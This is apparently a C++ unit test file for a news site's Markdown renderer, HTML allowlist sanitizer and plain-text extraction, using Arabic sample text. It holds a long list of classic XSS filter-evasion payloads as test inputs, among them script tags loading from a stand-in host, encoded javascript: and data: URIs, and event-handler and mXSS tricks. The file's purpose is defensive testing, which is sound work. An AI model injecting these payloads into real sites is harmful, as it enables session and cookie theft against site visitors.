// Markdown rendering, the HTML allowlist sanitizer and plain-text extraction. The XSS
// payloads are checked by parsing the output again the way a browser would (gumbo) and
// looking at every element and attribute, not by searching for strings.
#include "src/markup/markup.h"

#include <gtest/gtest.h>
#include <gumbo.h>

#include <map>
#include <set>
#include <string>
#include <vector>

namespace khabar::markup {
namespace {

// What may appear in sanitized output: element -> attributes.
const std::map<std::string, std::set<std::string>>& Allowed() {
  static const auto* allowed = new std::map<std::string, std::set<std::string>>{
      {"p", {}},
      {"br", {}},
      {"h2", {}},
      {"h3", {}},
      {"h4", {}},
      {"strong", {}},
      {"em", {}},
      {"b", {}},
      {"i", {}},
      {"u", {}},
      {"s", {}},
      {"del", {}},
      {"blockquote", {}},
      {"ul", {}},
      {"ol", {"start"}},
      {"li", {}},
      {"a", {"href", "title", "rel"}},
      {"img", {"src", "alt", "title", "width", "height", "loading"}},
      {"table", {}},
      {"thead", {}},
      {"tbody", {}},
      {"tfoot", {}},
      {"tr", {}},
      {"th", {"colspan", "rowspan", "align"}},
      {"td", {"colspan", "rowspan", "align"}},
      {"code", {}},
      {"pre", {}},
      {"figure", {}},
      {"figcaption", {}},
      {"hr", {}},
      {"sup", {}},
      {"sub", {}},
      // The fragment's frame as parsed back.
      {"html", {}},
      {"head", {}},
      {"body", {}}};
  return *allowed;
}

// The scheme of a URL as a browser reads it (tabs and newlines removed, leading and
// trailing controls and spaces skipped), lower-cased; "" for a relative URL.
std::string SchemeOf(std::string url) {
  std::string cleaned;
  for (char c : url) {
    if (c != '\t' && c != '\n' && c != '\r') cleaned.push_back(c);
  }
  size_t b = 0;
  while (b < cleaned.size() && static_cast<unsigned char>(cleaned[b]) <= 0x20) ++b;
  cleaned = cleaned.substr(b);
  size_t stop = cleaned.find_first_of(":/?#");
  if (stop == std::string::npos || cleaned[stop] != ':') return "";
  std::string scheme = cleaned.substr(0, stop);
  for (char& c : scheme) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return scheme;
}

// Everything unsafe found in `html` when a browser parses it; empty when it is safe.
std::vector<std::string> Problems(const std::string& html) {
  std::vector<std::string> problems;
  GumboOutput* out = gumbo_parse(html.c_str());
  std::vector<const GumboNode*> stack = {out->root};
  while (!stack.empty()) {
    const GumboNode* n = stack.back();
    stack.pop_back();
    if (n->type != GUMBO_NODE_ELEMENT) continue;
    const GumboElement& e = n->v.element;
    std::string tag = gumbo_normalized_tagname(e.tag);
    if (e.tag_namespace != GUMBO_NAMESPACE_HTML) tag = "foreign:" + tag;
    auto allowed = Allowed().find(tag);
    if (allowed == Allowed().end()) {
      problems.push_back(
          "element <" +
          (tag.empty() ? std::string(e.original_tag.data, e.original_tag.length) : tag) + ">");
    }
    for (unsigned i = 0; i < e.attributes.length; ++i) {
      const auto* a = static_cast<const GumboAttribute*>(e.attributes.data[i]);
      std::string name = a->name;
      if (allowed == Allowed().end() || !allowed->second.count(name)) {
        problems.push_back("attribute " + name + " on <" + tag + ">");
      }
      if (name == "href" || name == "src") {
        std::string scheme = SchemeOf(a->value);
        if (!scheme.empty() && scheme != "http" && scheme != "https" &&
            !(name == "href" && scheme == "mailto")) {
          problems.push_back(name + "=" + a->value);
        }
      }
    }
    for (unsigned i = 0; i < e.children.length; ++i) {
      stack.push_back(static_cast<const GumboNode*>(e.children.data[i]));
    }
  }
  gumbo_destroy_output(&kGumboDefaultOptions, out);
  return problems;
}

std::string Lower(std::string s) {
  for (char& c : s) c = static_cast<char>(std::tolower(static_cast<unsigned char>(c)));
  return s;
}

// Classic payloads (after the OWASP XSS filter evasion list and browser-quirk folklore),
// each of which runs script in some browser when left as it is.
const char* const kPayloads[] = {
    "<script>alert(1)</script>",
    "<SCRIPT SRC=http://xss.example/xss.js></SCRIPT>",
    "<IMG SRC=\"javascript:alert('XSS');\">",
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=JaVaScRiPt:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    "<a onmouseover=\"alert(document.cookie)\">xxs link</a>",
    "<IMG \"\"\"><SCRIPT>alert(\"XSS\")</SCRIPT>\">",
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover=\"alert('xxs')\">",
    "<IMG SRC=/ onerror=\"alert(String.fromCharCode(88,83,83))\"></img>",
    "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114"
    "&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116"
    "&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;"
    "&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>",
    "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105"
    "&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040"
    "&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>",
    "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72"
    "&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>",
    "<IMG SRC=\"jav\tascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">",
    "<IMG SRC=\"jav&#x0D;ascript:alert('XSS');\">",
    "<IMG SRC=\" &#14;  javascript:alert('XSS');\">",
    "<SCRIPT/XSS SRC=\"http://xss.example/xss.js\"></SCRIPT>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>",
    "<<SCRIPT>alert(\"XSS\");//\\<</SCRIPT>",
    "<SCRIPT SRC=http://xss.example/xss.js?< B >",
    "<iframe src=http://xss.example/scriptlet.html <",
    "</TITLE><SCRIPT>alert(\"XSS\");</SCRIPT>",
    "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">",
    "<BODY BACKGROUND=\"javascript:alert('XSS')\">",
    "<IMG DYNSRC=\"javascript:alert('XSS')\">",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</br>",
    "<svg/onload=alert('XSS')>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>"
    "</mtext></math>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"JAVASCRIPT:alert(1)\">x</a>",
    "<a href=\"&#106;avascript:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>",
    "<a href=\"  javascript:alert(1)\">x</a>",
    "<a href=\"&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)\">x</a>",
    "<a href=\"jav&NewLine;ascript:alert(1)\">x</a>",
    "<a href=\"jav&Tab;ascript&colon;alert(1)\">x</a>",
    "<a href=\"java\x01script:alert(1)\">x</a>",
    "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>",
    "<img src=\"data:image/svg+xml;base64,PHN2Zz48c2NyaXB0PmFsZXJ0KDEpPC9zY3JpcHQ+PC9zdmc+\">",
    "<div style=\"background-image: url(javascript:alert('XSS'))\">x</div>",
    "<p style=\"width: expression(alert('XSS'));\">x</p>",
    "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">",
    "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>",
    "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>",
    "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><TR><TD BACKGROUND=\"javascript:alert(1)\">x",
    "<OBJECT TYPE=\"text/x-scriptlet\" DATA=\"http://xss.example/scriptlet.html\"></OBJECT>",
    "<object data=\"javascript:alert(1)\"></object>",
    "<EMBED SRC=\"data:image/svg+xml;base64,PHN2Zz4=\" type=\"image/svg+xml\"></EMBED>",
    "<BASE HREF=\"javascript:alert('XSS');//\">",
    "<LINK REL=\"stylesheet\" HREF=\"javascript:alert('XSS');\">",
    "<form action=\"javascript:alert(1)\"><button formaction=\"javascript:alert(1)\">x</button>"
    "</form>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=\"alert(1)\"></video>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<textarea><script>alert(1)</script></textarea>",
    "<title><script>alert(1)</script></title>",
    "<template><script>alert(1)</script></template>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<a href=\"https://ok.example/\" onclick=\"alert(1)\" style=\"color:red\">ok</a>",
    "<img src=\"x\" style=\"x:expression(alert(1))\">",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">XSS</text></a></svg>",
    "<table><tr><td>x<style><img src=x onerror=alert(1)></style></td></tr></table>",
    "<p>a<!--<img src=x onerror=alert(1)>--></p>",
    "<![CDATA[<script>alert(1)</script>]]>",
};

TEST(SanitizeHtmlTest, NoClassicPayloadSurvives) {
  ASSERT_GE(std::size(kPayloads), 40u);
  for (const char* payload : kPayloads) {
    std::string safe = SanitizeHtml(payload);
    EXPECT_EQ(Problems(safe), std::vector<std::string>{}) << payload << "\n=> " << safe;
    EXPECT_EQ(Lower(safe).find("<script"), std::string::npos) << payload;
    EXPECT_EQ(Lower(safe).find("javascript:"), std::string::npos) << payload;
    // Sanitizing safe HTML changes nothing: what a browser parses is what was checked.
    EXPECT_EQ(SanitizeHtml(safe), safe) << payload;
  }
}

TEST(SanitizeHtmlTest, NoClassicPayloadSurvivesMarkdown) {
  for (const char* payload : kPayloads) {
    for (std::string md : {std::string(payload), "نص قبل\n\n" + std::string(payload) + "\n\nبعد",
                           "- بند " + std::string(payload)}) {
      std::string html = MarkdownToHtml(md);
      EXPECT_EQ(Problems(html), std::vector<std::string>{}) << md << "\n=> " << html;
      EXPECT_EQ(Lower(html).find("<script"), std::string::npos) << md;
    }
  }
  // Markdown's own link and image syntax goes through the same checks.
  for (const char* md :
       {"[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](&#106;avascript:alert(1))",
        "![x](javascript:alert(1))", "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox(1))", "<javascript:alert(1)>", "[x]: javascript:alert(1)\n\n[x]"}) {
    std::string html = MarkdownToHtml(md);
    EXPECT_EQ(Problems(html), std::vector<std::string>{}) << md << "\n=> " << html;
    EXPECT_EQ(Lower(html).find("=\"javascript"), std::string::npos) << md << " => " << html;
  }
}

TEST(SanitizeHtmlTest, ScriptAndStyleContentsAreDroppedWhole) {
  std::string safe = SanitizeHtml(
      "<p>قبل</p><script>stealCookies()</script><style>body{display:none}</style>"
      "<iframe src=\"https://x.example\">إطار</iframe><p>بعد</p>");
  EXPECT_EQ(safe, "<p>قبل</p><p>بعد</p>");
}

TEST(SanitizeHtmlTest, KeepsTheAllowlistAndUnwrapsTheRest) {
  EXPECT_EQ(SanitizeHtml("<p>نص <strong>عريض</strong> و<em>مائل</em></p>"),
            "<p>نص <strong>عريض</strong> و<em>مائل</em></p>");
  EXPECT_EQ(SanitizeHtml("<div class=\"x\" id=\"y\"><span style=\"color:red\">نص</span></div>"),
            "نص");
  EXPECT_EQ(SanitizeHtml("<h1>عنوان</h1><h5>صغير</h5>"), "<h2>عنوان</h2><h4>صغير</h4>");
  EXPECT_EQ(SanitizeHtml("<ul><li>أ</li><li>ب</li></ul>"), "<ul><li>أ</li><li>ب</li></ul>");
  EXPECT_EQ(SanitizeHtml("<ol start=\"3\" type=\"a\"><li>ج</li></ol>"),
            "<ol start=\"3\"><li>ج</li></ol>");
  EXPECT_EQ(SanitizeHtml("<p dir=\"ltr\" lang=\"en\">English</p>"), "<p dir=\"ltr\">English</p>");
  EXPECT_EQ(SanitizeHtml("<figure><img src=\"/media/a.jpg\" alt=\"ميناء\" width=\"800\" "
                         "height=\"x\"><figcaption>الميناء</figcaption></figure>"),
            "<figure><img src=\"/media/a.jpg\" alt=\"ميناء\" width=\"800\" loading=\"lazy\">"
            "<figcaption>الميناء</figcaption></figure>");
  EXPECT_EQ(SanitizeHtml("<p>a<br>b</p><hr><p>x<sup>2</sup>y<sub>3</sub></p>"),
            "<p>a<br>b</p><hr><p>x<sup>2</sup>y<sub>3</sub></p>");
  // Text and attribute values come out escaped.
  EXPECT_EQ(SanitizeHtml("<p>1 &lt; 2 &amp; &quot;x&quot;</p>"),
            "<p>1 &lt; 2 &amp; &quot;x&quot;</p>");
  EXPECT_EQ(SanitizeHtml("<a href=\"/a?x=1&amp;y=2\" title='say \"hi\"'>x</a>"),
            "<a href=\"/a?x=1&amp;y=2\" title=\"say &quot;hi&quot;\">x</a>");
}

TEST(SanitizeHtmlTest, LinksKeepSafeAddressesAndExternalOnesGetRel) {
  EXPECT_EQ(SanitizeHtml("<a href=\"https://news.example/a\" target=\"_blank\">x</a>"),
            "<a href=\"https://news.example/a\" rel=\"nofollow noopener\">x</a>");
  EXPECT_EQ(SanitizeHtml("<a href=\"//news.example/a\">x</a>"),
            "<a href=\"//news.example/a\" rel=\"nofollow noopener\">x</a>");
  EXPECT_EQ(SanitizeHtml("<a href=\"/2026/11/خبر/\">x</a>"), "<a href=\"/2026/11/خبر/\">x</a>");
  EXPECT_EQ(SanitizeHtml("<a href=\"#comments\">x</a>"), "<a href=\"#comments\">x</a>");
  EXPECT_EQ(SanitizeHtml("<a href=\"mailto:desk@news.example\">x</a>"),
            "<a href=\"mailto:desk@news.example\">x</a>");
  EXPECT_EQ(SanitizeHtml("<a href=\"javascript:alert(1)\">x</a>"), "<a>x</a>");
  EXPECT_EQ(SanitizeHtml("<a href=\"ftp://files.example/\">x</a>"), "<a>x</a>");
  // An image needs a source on the site; mailto is for links only.
  EXPECT_EQ(SanitizeHtml("<img src=\"mailto:a@b.example\" alt=\"x\">"), "");
  EXPECT_EQ(SanitizeHtml("<img alt=\"x\">"), "");
  // Images from another host are not kept: the site's pages load nothing from elsewhere.
  EXPECT_EQ(SanitizeHtml("<img src=\"https://tracker.example/p.gif\" alt=\"x\">"), "");
  EXPECT_EQ(SanitizeHtml("<img src=\"//tracker.example/p.gif\" alt=\"x\">"), "");
}

TEST(SanitizeHtmlTest, TablesKeepTheirShape) {
  EXPECT_EQ(SanitizeHtml("<table border=1><tr><th align=center colspan=2>أ</th></tr>"
                         "<tr><td rowspan=\"x\">ب</td></tr></table>"),
            "<table><tbody><tr><th align=\"center\" colspan=\"2\">أ</th></tr>"
            "<tr><td>ب</td></tr></tbody></table>");
}

TEST(SanitizeHtmlTest, DeepNestingIsNeitherSlowNorUnsafe) {
  // Nesting an article might have is kept.
  std::string nested;
  for (int i = 0; i < 200; ++i) nested += "<blockquote>";
  nested += "عمق";
  std::string kept = SanitizeHtml(nested);
  EXPECT_EQ(kept.find("<blockquote><blockquote>"), 0u);
  EXPECT_NE(kept.find("عمق"), std::string::npos);
  // Far deeper nesting (which the parser would take minutes over) becomes escaped text,
  // here and when it comes from Markdown.
  std::string deep;
  for (int i = 0; i < 100000; ++i) deep += "<b><i>";
  deep += "<img src=x onerror=alert(1)>عمق";
  std::string safe = SanitizeHtml(deep);
  EXPECT_EQ(Problems(safe), std::vector<std::string>{});
  EXPECT_NE(safe.find("عمق"), std::string::npos);
  EXPECT_EQ(HtmlToText(deep), "عمق");
  std::string quotes;
  for (int i = 0; i < 200000; ++i) quotes += "> ";
  std::string html = MarkdownToHtml(quotes + "عمق");
  EXPECT_EQ(Problems(html), std::vector<std::string>{});
  EXPECT_NE(html.find("عمق"), std::string::npos);
}

TEST(MarkdownTest, RendersArabicMarkdown) {
  std::string html = MarkdownToHtml(
      "## الميناء يستأنف العمل\n\n"
      "قال **المدير** إن السفن *ستعود* غدًا.\n\n"
      "- الرصيف الأول\n- الرصيف الثاني\n\n"
      "1. أولًا\n2. ثانيًا\n\n"
      "> «لن نتأخر بعد اليوم»\n\n"
      "التفاصيل في [موقع البلدية](https://city.example/port) و~~غدًا~~ اليوم.\n");
  EXPECT_NE(html.find("<h2>الميناء يستأنف العمل</h2>"), std::string::npos) << html;
  EXPECT_NE(html.find("<p>قال <strong>المدير</strong> إن السفن <em>ستعود</em> غدًا.</p>"),
            std::string::npos)
      << html;
  EXPECT_NE(html.find("<ul>\n<li>الرصيف الأول</li>\n<li>الرصيف الثاني</li>\n</ul>"),
            std::string::npos)
      << html;
  EXPECT_NE(html.find("<ol>\n<li>أولًا</li>"), std::string::npos) << html;
  EXPECT_NE(html.find("<blockquote>\n<p>«لن نتأخر بعد اليوم»</p>\n</blockquote>"),
            std::string::npos)
      << html;
  EXPECT_NE(html.find("<a href=\"https://city.example/port\" rel=\"nofollow noopener\">موقع "
                      "البلدية</a>"),
            std::string::npos)
      << html;
  EXPECT_NE(html.find("<del>غدًا</del>"), std::string::npos) << html;
}

TEST(MarkdownTest, GithubTablesAndAutolinks) {
  std::string html = MarkdownToHtml(
      "| المدينة | الحرارة |\n| :--- | ---: |\n| الإسكندرية | ٢٤ |\n\n"
      "المصدر: https://weather.example/today\n");
  EXPECT_NE(html.find("<table>"), std::string::npos) << html;
  EXPECT_NE(html.find("<th align=\"left\">المدينة</th>"), std::string::npos) << html;
  EXPECT_NE(html.find("<td align=\"right\">٢٤</td>"), std::string::npos) << html;
  EXPECT_NE(html.find("<a href=\"https://weather.example/today\" rel=\"nofollow noopener\">"),
            std::string::npos)
      << html;
}

TEST(MarkdownTest, ATopHeadingBecomesASubheading) {
  EXPECT_EQ(MarkdownToHtml("# عنوان"), "<h2>عنوان</h2>\n");
}

TEST(MarkdownTest, ScriptsInMarkdownLeaveNothingBehind) {
  // Neither the element nor its code as text: readers and search see none of it.
  EXPECT_EQ(MarkdownToHtml("قبل\n\n<script>alert('x')</script>\n\nبعد"),
            "<p>قبل</p>\n\n<p>بعد</p>\n");
  EXPECT_EQ(HtmlToText(MarkdownToHtml("نص <style>p{color:red}</style> آخر")), "نص آخر");
}

TEST(MarkdownTest, RawHtmlIsSanitizedNotRemoved) {
  EXPECT_EQ(MarkdownToHtml("نص <u>مسطّر</u> و<span onclick=\"x()\">عادي</span>"),
            "<p>نص <u>مسطّر</u> وعادي</p>\n");
  std::string html = MarkdownToHtml("صورة <img src=x onerror=alert(1)>");
  EXPECT_EQ(html.find("onerror"), std::string::npos) << html;
  EXPECT_NE(html.find("<img src=\"x\""), std::string::npos) << html;
}

TEST(HtmlToTextTest, ParagraphsAndLineBreaks) {
  EXPECT_EQ(HtmlToText("<h2>عنوان</h2><p>فقرة  أولى\n   ممتدة</p><p>سطر<br>وسطر</p>"
                       "<ul><li>أ</li><li>ب</li></ul>"),
            "عنوان\n\nفقرة أولى ممتدة\n\nسطر\nوسطر\n\nأ\n\nب");
  EXPECT_EQ(HtmlToText("<p>a &amp; b &lt;c&gt;</p>"), "a & b <c>");
  EXPECT_EQ(HtmlToText("<p>نص</p><script>var x = 1;</script><style>p{}</style>"), "نص");
  EXPECT_EQ(HtmlToText("<table><tr><td>أ</td><td>ب</td></tr></table>"), "أ ب");
  EXPECT_EQ(HtmlToText("كلمة<strong>ملتصقة</strong>"), "كلمةملتصقة");
  EXPECT_EQ(HtmlToText(""), "");
}

TEST(RenderBodyTest, EachFormat) {
  RenderedBody text = RenderBody(content::BodyFormat::kText, "فقرة\n\nأخرى");
  EXPECT_EQ(text.html, "");
  EXPECT_EQ(text.text, "فقرة\n\nأخرى");

  RenderedBody md = RenderBody(content::BodyFormat::kMarkdown,
                               "## عنوان\n\nنص **مهم** عن [الميناء](https://port.example).");
  EXPECT_EQ(md.html,
            "<h2>عنوان</h2>\n<p>نص <strong>مهم</strong> عن <a href=\"https://port.example\" "
            "rel=\"nofollow noopener\">الميناء</a>.</p>\n");
  // No markup and no address reaches the text that search indexes.
  EXPECT_EQ(md.text, "عنوان\n\nنص مهم عن الميناء.");

  RenderedBody html =
      RenderBody(content::BodyFormat::kHtml, "<p onclick=\"x\">نص</p><script>x()</script>");
  EXPECT_EQ(html.html, "<p>نص</p>");
  EXPECT_EQ(html.text, "نص");
}

}  // namespace
}  // namespace khabar::markup
